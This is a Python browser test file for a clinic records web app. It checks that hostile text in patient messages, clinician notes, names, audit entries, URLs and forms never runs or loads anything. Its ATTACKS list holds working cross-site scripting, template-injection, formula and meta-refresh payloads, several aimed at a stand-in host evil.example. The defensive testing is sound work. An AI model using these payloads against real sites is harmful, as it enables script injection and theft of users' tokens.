"""Hostile text in every field of the clinic, and every page of it opened in a real browser.

The record holds the text as her message, as notes and reasons of clinicians, as the name of a
colleague and in the audit log. Nothing of it may run, load, submit or add an element.
"""

from __future__ import annotations

import re
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser

from clinic.entry.access import ROLES
from clinic.routes import PAGES
from records.events import AlertActed, AlertClosed, Draft, NoteWritten, ValueCorrected
from records.sqlite_store import SqliteStore
from tests.browser.axe import assert_accessible
from tests.browser.clinic_site import Site, sign_in
from tests.clinic.browser import PASSWORD
from tests.clinic.simulated_people import NOW, Scribe
from tests.clinic.test_hostile_text import HOSTILE, write

pytestmark = pytest.mark.servers

ATTACKS = [
    *HOSTILE,
    '"><svg onload=alert(1)><iframe src=//evil.example></iframe>',
    "<a href=javascript:alert(1)>click</a><form action=//evil.example><input name=token>",
    '=HYPERLINK("http://evil.example","x") @SUM(1) {{constructor.constructor(\'alert(1)\')()}}',
    "' autofocus onfocus=alert(1) x='<style>*{display:none}</style><base href=//evil.example>",
    "<![CDATA[<meta http-equiv=refresh content='0;url=//evil.example'>]]></textarea></title>",
    "\u202e\u2067" + "A" * 1500 + "<img/src=x/onerror=alert(1)>",
]
# every element, and every attribute that could run, load or send something
FOUND = r"""() => {
  const counts = {}, bad = [];
  for (const e of document.querySelectorAll('*')) {
    counts[e.localName] = (counts[e.localName] || 0) + 1;
    for (const a of e.attributes) {
      if (a.name.startsWith('on') || a.name === 'style' || a.name === 'srcdoc') bad.push(a.name);
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data'].includes(a.name)
          && !/^[/#?](?!\/)/.test(a.value)) bad.push(a.name + '=' + a.value);
    }
  }
  for (const name of ['script', 'iframe', 'object', 'embed', 'base', 'video', 'audio'])
    if (counts[name]) bad.push(name);
  if (document.querySelector('meta[http-equiv], style')) bad.push('meta or style');
  return {counts, bad, text: document.body.innerText};
}"""


def people(store: SqliteStore, address: str, text: str) -> dict[str, str]:
    """One participant whose every text is `text`; the ids that addresses need."""
    her, message = write(store, address, text)
    (value,) = store.values(her.id)
    (alert,) = store.alerts(her.id)
    second = her.alert("review", "clot", "some words of hers", "words", NOW)
    for body in (
        NoteWritten("amara", text),
        ValueCorrected(value.id, 4.0, "amara", text),
        AlertActed(alert.id, "amara", text),
        AlertClosed(second, "amara", text),
    ):
        store.append(her.id, Draft(body, NOW))
    (value,) = store.values(her.id)
    return {"participant": her.id, "message": message, "value": value.id, "alert": alert.id}


def addresses(ids: dict[str, str]) -> list[str]:
    """Every page that is read, but those that answer with a file or lead elsewhere."""
    left_out = ("/health", "/static", "/login", "/setup", "/export/", "/alerts/")
    return [
        re.sub(r"{(\w+)}", lambda found: quote(ids[found[1]]), page.path)
        for page in PAGES
        if page.method == "GET" and not any(part in page.path for part in left_out)
    ]


def test_no_hostile_text_does_anything_on_any_page(site: Site, chromium: Browser) -> None:
    site.accounts.add_clinician("ada", '<img src=x onerror=alert(1)> "Ada', PASSWORD, tuple(ROLES))
    site.accounts.add_clinician("amara", "{{7*7}}<script>alert(2)</script>", PASSWORD)
    harmless = people(site.store, "harmless", "x" * 40)
    page = site.watch(chromium.new_context().new_page())
    sign_in(site, page, "ada")
    plain = {}
    for path, name in zip(addresses(harmless), addresses(dict.fromkeys(harmless, "")), strict=True):
        page.goto(site.address + path)
        plain[name] = page.evaluate(FOUND)["counts"]
    for number, text in enumerate(ATTACKS):
        ids = people(site.store, f"attack {number}", text)
        site.accounts.audit.write(NOW, text, "see_panel", "refused", participant=text, object=text)
        site.accounts.glass.break_for("amara", harmless["participant"], text, NOW)
        for path, name in zip(addresses(ids), plain, strict=True):
            answer = page.goto(site.address + path)
            found = page.evaluate(FOUND)
            assert answer and answer.status == 200, path
            assert found["bad"] == [], (path, text)
            assert "Traceback" not in found["text"]
            if path.startswith("/participants/") and len(text) < 400:  # the others list everybody
                assert found["counts"] == plain[name], (path, text)
    page.goto(f"{site.address}/accounts")
    assert "{{7*7}}<script>alert(2)</script>" in page.evaluate(FOUND)["text"]
    assert site.troubles == []


def test_hostile_addresses_and_forms_are_answered_with_a_page(
    site: Site, chromium: Browser
) -> None:
    site.accounts.add_clinician("ada", "Dr Ada", PASSWORD, tuple(ROLES))
    page = site.watch(chromium.new_context().new_page())
    sign_in(site, page, "ada")
    for text in ATTACKS:
        attack = quote(text[:300], safe="")
        for path in (
            f"/participants/{attack}",
            f"/participants/{attack}/break-glass",
            f"/audit?who={attack}&participant={attack}&verb={attack}&before={attack}",
            f"/account?notice={attack}",
            f"/accounts?notice={attack}",
            f"/?notice={attack}",
            f"/{attack}",
        ):
            answer = page.goto(site.address + path)
            assert answer and answer.status in (200, 404), path
            found = page.evaluate(FOUND)
            assert found["bad"] == [] and "Traceback" not in found["text"], path
    for text in ATTACKS[:4]:
        page.goto(f"{site.address}/accounts")
        form = page.locator('form[action="/accounts"]')
        form.get_by_label("Sign-in name").fill(text[:40])
        form.get_by_label("Name, as colleagues").fill(text[:80])
        form.get_by_role("button").click()
        assert page.get_by_role("alert").is_visible() and page.evaluate(FOUND)["bad"] == []
    assert site.troubles == []


def test_the_pages_of_access_are_accessible(site: Site, chromium: Browser) -> None:
    site.accounts.add_clinician("ada", "Dr Ada Byron", PASSWORD, ("lead", "admin"))
    her = Scribe(site.store, "a").onboard(weeks=5)
    site.accounts.glass.break_for("ada", her.id, "nobody could be reached", NOW)
    page = site.watch(chromium.new_context().new_page())
    page.goto(f"{site.address}/login")
    page.get_by_label("Sign-in name").fill("ada")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    assert_accessible(page, "second factor")
    sign_in(site, page, "ada")
    for path in (
        "/account",
        "/accounts",
        "/audit",
        f"/participants/{her.id}/break-glass",
        "/invitation",
    ):
        page.goto(site.address + path)
        assert_accessible(page, path)
